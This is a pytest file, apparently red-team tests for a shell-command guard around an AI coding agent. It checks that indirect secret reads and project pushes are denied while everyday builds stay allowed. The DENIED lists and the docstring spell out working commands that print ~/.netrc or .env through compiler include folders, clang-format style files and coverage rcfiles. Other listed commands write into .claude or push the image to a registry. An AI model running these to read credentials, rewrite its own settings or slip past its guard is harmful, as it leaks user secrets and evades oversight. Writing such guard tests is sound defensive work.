"""Red team 37: files a builder's tools read or write by a name the command line does not spell
as an operand (issue 9, classes 2 and 4), and a push that sends the project out.

- A compiler's include folders: `gcc -I ~ -include .netrc -E -x c /dev/null` printed ~/.netrc
  (`-include FILE` and every `#include "FILE"` are looked up in the `-I`/`-iquote`/`-isystem`/
  `-idirafter`/`--sysroot` folders, and `-E` prints what it read). Such a folder is judged as a
  recursive read: one holding a secret outside the project (or the guard's files) is refused;
  the project's own folders stay usable (hook/includedirs.py).
- A path after a colon in an option's value: `clang-format --style=file:.env` parsed .env as its
  style and printed it in the YAML error.
- `coverage run --rcfile=.env x.py` read .env as its configuration (the wrapper dropped it).
- `docker build -o .` / `--output type=local,dest=.claude` write the image's files under names the
  Dockerfile picks (`.claude/settings.json`); `docker buildx build --push`, `-o type=registry`,
  `push=true`, `docker compose build --push` push the image (the project copied in) as `docker
  push` does, which the builder's allow-list does not grant.

Each deny asserts its reason; the everyday neighbours stay allowed. Verdicts only.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def s(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("redteam37_buildreads"), files={
        ".env": "SECRET=1\n", "~/.netrc": "machine x login y password z\n", "~/.ssh/id_rsa": "KEY\n",
        "CMakeLists.txt": "project(x)\n", "pyproject.toml": "[project]\nname = 'x'\n", "Dockerfile": "FROM scratch\n",
        "compose.yaml": "services: {}\n", "main.c": "int main(){}\n", "include/x.h": "\n", "x.py": "print(1)\n",
        ".coveragerc": "[run]\n", ".clang-format": "BasedOnStyle: LLVM\n", "out/": ""})


DENIED = [
    ("gcc -I ~ -include .netrc -E -x c /dev/null", "looks for the files", "would read ~/", "deny-path"),
    ("gcc -iquote ~ -E main.c", "looks for the files", "deny-path"),
    ("cc -isystem$HOME -E main.c", "looks for the files", "deny-path"),
    ("clang --sysroot=$HOME -E main.c", "looks for the files", "deny-path"),
    ("clang-format --style=file:.env main.c", ".env is denied by deny-path"),
    ("clang-format -style=file:.env main.c", ".env is denied by deny-path"),
    ("coverage run --rcfile=.env x.py", ".env is denied by deny-path"),
    ("coverage run --rcfile ~/.netrc x.py", ".netrc is denied by deny-path"),
    ("docker build -o . .", "copies files the guard cannot list"),
    ("docker build --output type=local,dest=.claude .", "copies files the guard cannot list"),
    ("docker buildx build --push -t registry.example.com/x .", "`docker push registry.example.com/x` is not on the command allow-list"),
    ("docker buildx build -o type=registry .", "`docker push IMAGE` is not on the command allow-list"),
    ("docker buildx build --output=name=registry.example.com/x,type=image,push=true .", "docker push"),
    ("docker compose build --push", "docker push"),
    ("docker compose -f compose.yaml build --push app", "docker push"),
]


@pytest.mark.parametrize("command,fragments", [(c[0], c[1:]) for c in DENIED], ids=[c[0][:60] for c in DENIED])
def test_reads_and_pushes_by_a_name_not_spelled_as_an_operand(s, command, fragments):
    assert_denied(s.bash(command), *fragments)


OPEN_DENIED = [
    ("gcc -I ~ -include .netrc -E -x c /dev/null", "would read ~/"),
    ("C_INCLUDE_PATH=$HOME gcc -include .netrc -E main.c", "would read ~/"),
    ("clang-format --style=file:.env main.c", "deny-path"),
    ("coverage run --rcfile=.env x.py", "deny-path"),
    ("docker build -o . .", "copies files the guard cannot list"),
]


@pytest.mark.parametrize("command,fragment", OPEN_DENIED)
def test_under_open_too(s, command, fragment):
    assert_denied(s.bash(command, role="open"), fragment)


ALLOWED = [
    "gcc -I include -I. -Iinclude -c main.c -o main.o",
    "gcc -isystem include -E main.c",
    "clang-format --style=file main.c",
    "clang-format --style=file:.clang-format main.c",
    "clang-format -style=LLVM -i main.c",
    "coverage run --rcfile=.coveragerc x.py",
    "coverage run x.py",
    "docker build -o out .",
    "docker build --output type=local,dest=out .",
    "docker build --output type=tar,dest=out/image.tar .",
    "docker buildx build --load -t app .",
    "docker buildx build --output type=docker -t app .",
    "docker build -t app .",
    "docker compose build",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_everyday_builds_stay_allowed(s, command):
    assert_allowed(s.bash(command))


def test_open_may_push_as_it_may_docker_push(s):
    # (red team 47: a push to a registry the user has not logged in to is refused under open, as `docker push` is)
    assert_denied(s.bash("docker buildx build --push -t registry.example.com/x .", role="open"), "registry logins do not list")
